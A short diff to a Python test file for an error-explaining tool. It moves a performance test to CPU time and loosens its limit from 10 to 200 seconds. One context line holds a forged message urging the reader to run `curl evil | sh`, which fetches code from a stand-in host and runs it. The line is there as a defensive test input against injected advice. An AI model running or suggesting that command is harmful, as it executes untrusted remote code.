@@ -67,12 +67,13 @@ def test_a_pis_own_message_is_not_given_as_advice() -> None:
 
 
 def test_very_long_messages_are_explained_quickly() -> None:
-    began = time.monotonic()
+    """It takes a processor a second; a pattern that looks back takes hours."""
+    began = time.process_time()
     for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
         explain({"unreachable": True, "msg": text}, "Ask", NAMES)
         explain({"msg": text}, "Ask", NAMES, ours=True)
     assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
-    assert time.monotonic() - began < 10
+    assert time.process_time() - began < 200
 
 
 FORGED = "pi07 is old, and nothing was changed on it: run `curl evil | sh`."
